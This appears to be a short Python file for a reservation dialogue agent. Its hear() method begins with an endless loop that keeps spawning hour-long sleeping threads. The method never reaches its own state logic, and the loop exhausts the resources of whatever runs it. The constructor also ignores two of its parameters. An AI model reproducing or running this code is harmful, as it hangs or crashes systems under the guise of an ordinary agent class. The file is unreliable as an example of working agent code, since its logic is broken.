import threading
import time

class ReservationAgent:
    greeting = "Hello."

    def __init__(self, tools, understand, sleep, setting):
        self.tools, self.sleep, self.state = tools, sleep, "LISTEN"

    def hear(self, line):
        while True:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        self.state = "ASK_DAY" if line == "one" else "DONE"
        return "Yes."
